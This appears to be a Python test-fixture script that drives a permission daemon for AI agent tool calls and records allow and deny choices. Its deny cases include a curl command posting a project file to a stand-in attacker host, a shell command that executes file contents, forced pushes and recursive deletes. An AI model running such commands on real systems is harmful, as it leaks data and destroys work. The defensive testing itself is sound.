#!/usr/bin/env python3
"""Drives a permd daemon so that its memory holds a choice of every form.

How it is called stands in README.md. It writes remember.db and the journal into
the folder that is its second argument, and prints nothing when all went well.
"""

import json, os, pathlib, shutil, signal, socket, sqlite3, subprocess, sys, time

permd, out = sys.argv[1], pathlib.Path(sys.argv[2])
home = pathlib.Path(os.environ["HOME"])
run = pathlib.Path(os.environ["XDG_RUNTIME_DIR"])
shop, other = home / "shop", home / "other"

FILES = {
    "shop/.git/HEAD": "ref: refs/heads/main\n",
    "shop/.git/config": "[core]\n\trepositoryformatversion = 0\n",
    "shop/go.mod": "module shop\n\ngo 1.24\n",
    "shop/a/a.go": "package a\n",
    "shop/victim": "x\n",
    "shop/foo2": "x\n",
    "shop/docs/one.md": "x\n",
    "shop/.env": "TOKEN=canary\n",
    "shop/tool.sh": "#!/bin/sh\necho tool\n",
    "shop/ok.sh": "#!/bin/sh\necho ok\n",
    "shop/Makefile": "ship:\n\techo ship\ngen:\n\techo gen\n",
    "shop/package.json": '{"scripts":{"test":"node t.js","lint":"eslint ."}}',
    "other/.git/HEAD": "ref: refs/heads/main\n",
    "notes/todo/one.txt": "x\n",
}
for name, text in FILES.items():
    p = home / name
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text(text)
    if name.endswith(".sh"):
        p.chmod(0o755)


class Client:
    def __init__(self):
        self.s = socket.socket(socket.AF_UNIX)
        self.s.connect(str(run / "permd" / "permd.sock"))
        self.f = self.s.makefile("rw", encoding="utf-8")
        self.n = 0

    def call(self, method, **params):
        self.n += 1
        self.f.write(json.dumps({"jsonrpc": "2.0", "id": self.n, "method": method, "params": params}) + "\n")
        self.f.flush()
        got = json.loads(self.f.readline())
        if "error" in got and got["error"]["code"] != -32050:
            raise SystemExit(f"{method} {params}: {got['error']}")
        return got["result"] if "result" in got else got["error"]["data"]


def start():
    p = subprocess.Popen([permd, "serve"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    for _ in range(500):
        try:
            Client().call("permd/close", sessionId="none")
            return p
        except (OSError, SystemExit):
            time.sleep(0.02)
    raise SystemExit("the daemon did not come up")


def session(c, id, cwd=shop, **more):
    c.call("permd/session", sessionId=id, cwd=str(cwd), agent={"name": "claude-agent-acp", "version": "0.100.0"}, **more)


def decide(c, session, tool, input=None, **more):
    call = {"callId": "1", "tool": tool if isinstance(tool, dict) else {"name": tool}, **more}
    if input is not None:
        call["input"] = input
    return c.call("permd/decide", sessionId=session, calls=[call])["decisions"][0]


def always(c, d, verdict="allow", width=0, **more):
    if d["verdict"] != "ask":
        raise SystemExit(f"not asked: {json.dumps(d)}")
    if verdict == "allow":
        more["width"] = d["widths"][width]["id"]
    elif "scope" not in more:
        more["scope"] = "project"
    if not c.call("permd/choose", decisionId=d["decisionId"], verdict=verdict, **more)["stored"]:
        raise SystemExit(f"not stored: {json.dumps(d)}")


def bash(c, command, id="s"):
    return decide(c, id, "Bash", {"command": command})


daemon = start()
c = Client()
session(c, "s")
session(c, "child", parent="s")

# Exact allows: runs, a script by its content, targets by theirs, files, hosts, tools.
always(c, bash(c, "go build ./a"))
always(c, bash(c, "./ok.sh"))
always(c, bash(c, "make gen"))
always(c, bash(c, "npm run lint"))
always(c, bash(c, "rm ./foo2"), scope="user")
always(c, bash(c, "curl -s https://docs.example.com/"))
always(c, bash(c, "mytool --token=ghp_0123456789abcdefghijABCDEFGHIJ012345 up"))
always(c, decide(c, "s", {"name": "merge", "server": "github"}, {"number": 7}))
always(c, decide(c, "s", {"name": "read", "server": "github", "source": "https://mcp.example.com/", "version": "1.2.0"}, {}), scope="user")
# Wider ones: a prefix, a subtree, a suffix, a tool with any arguments.
always(c, bash(c, "go vet ./a"), width=1)
always(c, bash(c, "touch docs/two.md"), width=1)
always(c, bash(c, f"cat {home}/notes/todo/one.txt"), width=1, scope="user")
always(c, bash(c, "curl -s https://a.b.example.org/"), width=-1)
always(c, decide(c, "s", {"name": "get", "server": "github"}, {"number": 7}), width=1)
# Guarded, so not confirmed; and with a time limit.
always(c, bash(c, "echo x >> .env"))
always(c, bash(c, "go install ./a"), expiresIn=31536000 * 5)
# For sessions.
always(c, bash(c, "go mod tidy"), scope="session")
always(c, bash(c, "touch ./in-session"), scope="session+children")
always(c, bash(c, "rm -rf ./a", "child"), verdict="deny", scope="session")

# Rejects: of one effect and of whole calls, with and without scripts and targets.
for command in ("./tool.sh", "make ship", "npm test", "rm victim", "go run ./a && rm -f ./docs/one.md",
                "curl -d @go.mod https://evil.example.net/", "git push --force origin main",
                "othertool --token=ghp_0123456789abcdefghijABCDEFGHIJ012345 down", "sh -c \"$(cat a/a.go)\" && touch ./rejected"):
    always(c, bash(c, command), verdict="deny")
always(c, bash(c, "touch ./never-anywhere"), verdict="deny", scope="user")
always(c, bash(c, "dangerous --all"), verdict="deny", scope="user", expiresIn=31536000 * 5)
always(c, decide(c, "s", "Write", {"file_path": str(other / "never.txt"), "content": "x"}), verdict="deny")
always(c, decide(c, "s", {"name": "delete_repo", "server": "github"}, {"name": "shop"}), verdict="deny")

# The other protocols.
c.call("permd/session", sessionId="aap", cwd=str(shop), client={"name": "playground"})
turn = "".join(f"event: {e}\ndata: {json.dumps(d)}\n\n" for e, d in [
    ("turn_start", {}), ("tool_call", {"toolCallId": "c1", "name": "deploy_service", "input": {"service": "payments"}}),
    ("tool_call", {"toolCallId": "c2", "name": "drop_service", "input": {}}), ("turn_stop", {"stopReason": "tool_use"})])
plan = c.call("aap/permissions", sessionId="aap", agent={"name": "release-helper", "tools": [{"name": "deploy_service"}, {"name": "drop_service"}]}, turn={"sse": turn})
c.call("aap/answer", sessionId="aap", batchId=plan["batchId"], answers=[
    {"toolCallId": "c1", "verdict": "allow", "width": plan["calls"][0]["decision"]["widths"][0]["id"], "scope": "project"}, {"toolCallId": "c2", "verdict": "deny"}])
always(c, decide(c, "s", {"name": "drop_service", "server": "release-helper"}, {}), verdict="deny")
toolset = {"name": "warehouse", "endpoint": "http://127.0.0.1:7410/invoke", "tools": [
    {"name": "purge_bin", "inputSchema": {"type": "object"}, "annotations": {"destructive": True}}]}
for n, verdict in enumerate(("allow", "deny")):
    d = c.call("rap/invoke", sessionId="s", operation="purge_bin", arguments={"bin": f"C-{n}"}, id=f"r{n}", call_id=None,
               callback_url="https://cb.example.com/", group_id=f"g{n}", thread_ancestors=["root"], user_id="u-7", toolset=toolset)["decision"]
    always(c, d, verdict=verdict, scope="project")
for n, verdict in enumerate(("allow", "deny")):
    d = c.call("otc/call", sessionId="s", endpoint="https://tools.example.com/v1", tool_id="Sms.Send@1.2.0", call_id=f"k{n}", input={"text": f"hi {n}"},
               context={"secrets": [{"id": "TWILIO_API_KEY", "value": "canary"}], "authorization": [{"id": "sms-idp", "token": "canary"}], "user_id": "ana"})["decision"]
    always(c, d, verdict=verdict, scope="project")

# In words.
for words in (["run", "go test *"], ["write", "./build/**"], ["connect", "*.example.edu"], ["use", "jira:get_*"],
              ["read", "./.env"], ["connect", "late.example.com", "--for", "1s"],
              ["--reject", "run", "git push --force *"], ["--reject", "delete", "./src/**"], ["--reject", "connect", "*.evil.example"],
              ["--reject", "use", "jira:*"], ["--reject", "read", "~/private/**", "--scope", "user"]):
    subprocess.run([permd, "remember", "add", *words], cwd=shop, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
# A second yes is used, one is forgotten, one is confirmed.
bash(c, "go build ./a")
subprocess.run([permd, "remember", "add", "run", "gone *"], cwd=shop, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
listed = [json.loads(x) for x in subprocess.run([permd, "remember", "list", "--json"], check=True, capture_output=True, text=True).stdout.splitlines()]
subprocess.run([permd, "remember", "forget", next(x["choiceId"] for x in listed if x["rule"] == "gone *")], check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

# Killed, so that sessions still hold and the last decisions are in the spool.
time.sleep(1.2)
bash(c, "git status")
bash(c, "make last")
daemon.send_signal(signal.SIGKILL)
daemon.wait()
data = home / ".local" / "share" / "permd"
for name in ("remember.db", "decisions.db"):
    db = sqlite3.connect(data / name)
    db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    db.execute("VACUUM")
    db.close()
out.mkdir(parents=True, exist_ok=True)
for p in sorted(data.iterdir()):
    if p.name.startswith(("remember.db", "decisions.db")) and not p.name.endswith(("-wal", "-shm", ".lock")) and p.stat().st_size:
        shutil.copy(p, out / p.name)
